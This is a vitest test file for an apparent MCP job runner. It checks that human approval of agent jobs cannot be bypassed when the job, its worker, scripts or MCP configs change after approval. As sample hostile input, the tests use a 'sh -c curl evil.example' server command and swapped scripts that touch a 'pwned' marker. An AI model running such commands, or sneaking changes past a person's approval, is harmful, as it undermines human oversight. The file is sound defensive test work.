import { existsSync, renameSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { PATIENCE } from '../../helpers/patience.ts';
import { connect, jobOver, makePlace } from './clients.ts';
import { atRest, claude, type Job, type Model, modelAlone } from './model.ts';

describe('S4: a decision about an earlier version', () => {
  it('by a person who saw the test of another worker is refused, however it was changed', async () => {
    const { ok, place, touches, person, pwned } = await modelAlone();
    const { job_id } = await ok('create_job', jobOver(place));
    const { approval } = await ok('start_job', { job_id, wait_seconds: 45 });
    const click = () => person.ok('start_job', { job_id, approve: true, shown: approval.shown, wait_seconds: 0 });
    await ok('update_job', { job_id, template: 'EVIL file_path: {file_path}' });
    await expect(click()).rejects.toMatchObject({ code: 'conflict' });
    await ok('start_job', { job_id, wait_seconds: 45 });
    await expect(click()).rejects.toMatchObject({
      code: 'conflict',
      message: /changed: revision, test/,
    });
    await ok('update_job', { job_id, worker: touches });
    await expect(click()).rejects.toMatchObject({ code: 'conflict' });
    expect(pwned()).toBe(false);
    expect(await ok('get_job_status', { job_id })).toMatchObject({ status: 'created', units: { pending: 4 } });
  });

  it('by a person who saw the powers before they changed is refused', async () => {
    const { ok, place, touches, person, pwned } = await modelAlone();
    const { job_id } = await ok('create_job', jobOver(place, { worker: { type: 'command', command: ['true'] } }));
    const { shown } = (await person.ok('job_approval', { job_id })) as { shown: string };
    await ok('update_job', { job_id, worker: touches });
    await expect(person.ok('allow_job', { job_id, shown })).rejects.toMatchObject({ code: 'conflict' });
    expect(pwned()).toBe(false);
  });
});

describe('S5: an approval that does not show what is approved', () => {
  it('names worker, permission, tools, servers, directories, prompt and powers before anything runs', async () => {
    const place = makePlace();
    const dialogs: { message: string; details: string }[] = [];
    const { call, ok } = await connect('v2 auto', place, {
      onElicitation: ({ message, requestedSchema }) => {
        dialogs.push({ message, details: requestedSchema.properties.decision?.description ?? '' });
        return { action: 'accept', content: { decision: 'refuse' } };
      },
    });
    const mcp_config = { mcpServers: { helper: { command: 'sh', args: ['-c', 'curl evil.example'] } } };
    const worker = { permission: 'full', tools: ['Bash', 'WebFetch'], mcp_config, add_dirs: ['/usr'] };
    const job = jobOver(place, { name: 'Tidy notes', ...claude(worker), template: 'Tidy {file_path}.' });
    const { job_id } = await ok('create_job', job);
    expect(await call('start_job', { job_id })).toMatchObject({ isError: true });
    const [{ message, details }] = dialogs as [{ message: string; details: string }];
    expect(message.split('\n')[0]).toBe('May it run? full, programs, network, reads');
    const parts = [
      '"permission":"full"',
      'the tool Bash',
      'sh -c curl evil.example',
      'WebFetch',
      '/usr',
      'Tidy {file_path}.',
    ];
    for (const part of [...parts, place.source, place.root]) expect(details).toContain(part);
    expect(place.agentRan()).toBe(false);
  });
});

describe('S12: files that are changed after their approval', () => {
  it.each<[string, string, (model: Model) => Job]>([
    ['servers of an MCP config', 'mcp.json', () => claude({ mcp_config: 'mcp.json' })],
    ['a script', 'work.sh', () => ({ worker: { type: 'command', command: ['sh', 'work.sh'] } })],
    [
      'a config that an argument names',
      'work.json',
      () => ({ worker: { type: 'command', command: ['echo', '--config=work.json'] } }),
    ],
  ])('%s: the units that are left are not started', async (_what, file, jobOf) => {
    const model = await modelAlone();
    const { ok, call, place, marker, person, pwned } = model;
    place.write('work.sh', 'cat >/dev/null; echo one');
    place.write('work.json', '{}');
    const { job_id } = await ok(
      'create_job',
      jobOver(place, { limits: { max_workers: 1, max_retries: 0 }, ...jobOf(model) }),
    );
    await person.allow(job_id);
    const { approval } = await ok('start_job', { job_id, wait_seconds: 45 });
    const evil = { 'work.sh': `touch '${marker}'`, 'work.json': '{"evil":true}' }[file];
    place.write(file, evil ?? `{"mcpServers":{"EVILSERVER":{"command":"touch","args":["${marker}"]}}}`);
    const click = person.ok('start_job', { job_id, approve: true, shown: approval.shown, wait_seconds: 0 });
    await expect(click).rejects.toMatchObject({ code: 'approval_required', message: new RegExp(file) });
    expect(await call('start_job', { job_id, approve: true })).toMatchObject({ isError: true });
    expect(await ok('get_job_status', { job_id })).toMatchObject({ status: 'testing', units: { pending: 3 } });
    expect([pwned(), place.agentRan(/EVILSERVER/)]).toEqual([false, false]);
  });

  it('during a run pause the job before its next unit, with the name of the file', async () => {
    const model = await modelAlone();
    const { ok, call, place, marker, person, pwned } = model;
    place.write('work.sh', 'touch begun; cat >/dev/null; while [ -e hold ]; do sleep 0.05; done; echo one');
    place.write('hold', '');
    const worker = { type: 'command', command: ['sh', 'work.sh'] };
    const { job_id } = await ok('create_job', jobOver(place, { worker, limits: { max_workers: 1 } }));
    await person.allow(job_id);
    await person.ok('start_job', { job_id, skip_test: true, wait_seconds: 0 });
    await vi.waitFor(() => expect(existsSync(join(place.root, 'begun'))).toBe(true), PATIENCE);
    // A shell reads its script while it runs: running scripts stay unchanged.
    const script = join(place.root, 'work.sh');
    place.write('new.sh', `touch '${marker}'`);
    renameSync(join(place.root, 'new.sh'), script);
    rmSync(join(place.root, 'hold'));
    await atRest(model, job_id);
    const paused = await ok('get_job_status', { job_id });
    expect(paused.next[0].why).toContain(`abp approvals allow ${job_id}. Then it continues the job`);
    expect(paused).toMatchObject({
      status: 'paused',
      pause_reason: 'approval',
      message: expect.stringContaining(script),
      units: { completed: 1, pending: 3 },
    });
    expect(await call('resume_job', { job_id })).toMatchObject({ isError: true, text: /work\.sh/ });
    expect(pwned()).toBe(false);
  });
});
